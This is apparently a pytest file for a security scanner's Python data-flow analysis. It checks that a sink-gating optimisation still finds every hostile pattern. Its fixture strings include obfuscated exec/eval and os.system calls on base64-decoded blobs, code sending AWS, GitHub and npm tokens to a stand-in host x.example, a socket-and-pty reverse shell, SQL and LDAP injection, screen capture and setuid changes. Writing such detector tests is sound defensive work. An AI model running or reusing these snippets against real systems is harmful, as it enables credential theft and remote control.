"""The flow analysis skips its scope passes when no call of a module can resolve to anything
they act on (python_sink_gate). Each script below reaches a sink only through a route the gate
must see (aliases, constructor aliases, getattr, builtins, untrusted input, tools): each must
still be found, and every script, gated or not, must give exactly the facts of the full passes."""
from __future__ import annotations

import pathlib

import pytest

from scanner.document import Document
from scanner.scripts import common as c
from scanner.scripts import python_flow as pf

B64 = "import base64\n"
SCRIPTS = {
    "import-alias": B64 + "from os import popen as p2\nrunner = p2\nrunner(base64.b64decode(BLOB))\n",
    "module-alias": B64 + "import subprocess as sp\nsp.run(base64.b64decode(BLOB), shell=True)\n",
    "attribute-alias": B64 + "import os\nrun = os.system\nrun(base64.b64decode(BLOB))\n",
    "constructor-alias": "import os, requests\ns = requests.session()\ns.put('https://x.example/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
    "getattr-folded": B64 + "import os\ngetattr(os, 'sys' + 'tem')(base64.b64decode(BLOB))\n",
    "builtins-subscript": B64 + "__builtins__['ex' + 'ec'](base64.b64decode(BLOB))\n",
    "vars-subscript": B64 + "vars()['ev' + 'al'](base64.b64decode(BLOB))\n",
    "dunder-builtins": B64 + "__builtins__.exec(base64.b64decode(BLOB))\n",
    "import-module": B64 + "from importlib import import_module\nm = import_module('o' + 's')\nm.system(base64.b64decode(BLOB))\n",
    "sending-method": "import os\nclient.sendmail('a@x.example', 'b@x.example', os.environ['GITHUB_TOKEN'])\n",
    "os-exec-prefix": B64 + "import os\nos.execlp(base64.b64decode(BLOB).decode(), 'x')\n",
    "network-prefix": "import http.client as hc, os\nc = hc.HTTPSConnection('x.example')\nc.request('POST', '/', os.environ['NPM_TOKEN'])\n",
    "urlopen-prefix": "import urllib.request, os\nurllib.request.urlopen('https://x.example', data=os.environ['NPM_TOKEN'])\n",
    "argv-ldap": "import sys, ldap\nconn = ldap.initialize('ldap://x')\nconn.search_s('(uid=%s)' % sys.argv[1], 2)\n",
    "input-template": "name = input()\ntpl = '{}' + name\ntpl.format(1)\n",
    "tool-return": "import os\n@mcp.tool()\ndef env():\n    return dict(os.environ)\n",
    "sql-param": "def find(db, name):\n    db.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
    "capture": "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n",
    "setuid": "import os\nos.chmod('/tmp/x', 0o4755)\n",
    "reverse-shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
                     "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    "no-sink": "import json, re\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n\n"
               "def words(s):\n    return re.compile(r'\\w+').findall(s.format())\n",
}
# Scripts whose sink only the scope passes find, and the fact each must give.
EXPECTED = {
    "import-alias": c.DECODE_EXEC, "module-alias": c.DECODE_EXEC, "attribute-alias": c.DECODE_EXEC,
    "constructor-alias": c.CRED_EXFIL, "getattr-folded": c.DECODE_EXEC, "builtins-subscript": c.DECODE_EXEC, "vars-subscript": c.DECODE_EXEC,
    "dunder-builtins": c.DECODE_EXEC, "import-module": c.DECODE_EXEC, "sending-method": c.CRED_EXFIL,
    "os-exec-prefix": c.DECODE_EXEC, "network-prefix": c.CRED_EXFIL, "urlopen-prefix": c.CRED_EXFIL,
    "argv-ldap": c.INPUT_TO_SINK, "input-template": c.INPUT_TO_SINK, "tool-return": c.SENSITIVE_READ,
    "sql-param": c.INPUT_TO_SINK, "capture": c.SURVEILLANCE, "setuid": c.PRIVILEGE, "reverse-shell": c.REVERSE_SHELL,
}


def _facts(text: str, path: str = "tool.py") -> list[tuple]:
    doc = Document(path, text)
    return [(f.kind, f.start, f.end, f.message, f.severity, f.properties) for f in pf.analyze(doc)]


def _ungated(monkeypatch) -> None:
    monkeypatch.setattr(pf, "scope_passes_needed", lambda *args: True)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_sink_reached_only_through_the_gated_passes_is_found(name):
    assert EXPECTED[name] in {f[0] for f in _facts(SCRIPTS[name])}


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_gated_facts_equal_the_full_passes_facts(name, monkeypatch):
    gated = _facts(SCRIPTS[name])
    _ungated(monkeypatch)
    assert gated == _facts(SCRIPTS[name])


def test_a_module_without_sink_names_skips_the_scope_passes(monkeypatch):
    def refuse(self, *args):
        raise AssertionError("scope passes ran")

    monkeypatch.setattr(pf.PythonFlow, "scope_passes", refuse)
    _facts(SCRIPTS["no-sink"])  # re.compile and str.format are no sinks without untrusted input
    with pytest.raises(AssertionError):
        _facts(SCRIPTS["input-template"])


def test_the_repositorys_own_python_gives_the_same_facts_gated_or_not(monkeypatch):
    """Real modules of every shape (sinks, aliases, dynamic access, none of them): the gate changes no fact."""
    root = pathlib.Path(__file__).resolve().parents[1]
    paths = sorted(p for d in ("scanner", "tests", "benchmarks") for p in (root / d).rglob("*.py"))
    texts = {str(p.relative_to(root)): p.read_text(encoding="utf-8") for p in paths}
    gated = {p: _facts(t, p) for p, t in texts.items()}
    _ungated(monkeypatch)
    assert gated == {p: _facts(t, p) for p, t in texts.items()}
